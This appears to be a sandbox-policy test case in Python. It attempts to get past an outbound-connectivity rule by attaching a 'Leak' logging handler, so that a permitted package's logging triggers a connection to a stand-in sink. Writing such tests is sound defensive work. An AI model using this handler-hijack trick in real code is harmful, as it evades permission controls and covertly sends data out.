# class: only_for
# rule: outbound_connectivity
# success: a logging handler that the allowed package logs to connects
# proof: sink
# needs: packages
# policy: only_for.yaml
# says: "asker": "tintbox"
import logging

import stripe
from attack import SINK, attempt


class Leak(logging.Handler):
    def emit(self, record):
        done.append(stripe.charge(SINK))


done = []


@attempt
def log_handler():
    logging.getLogger().addHandler(Leak())
    stripe.call(logging.error, "x")
    return done
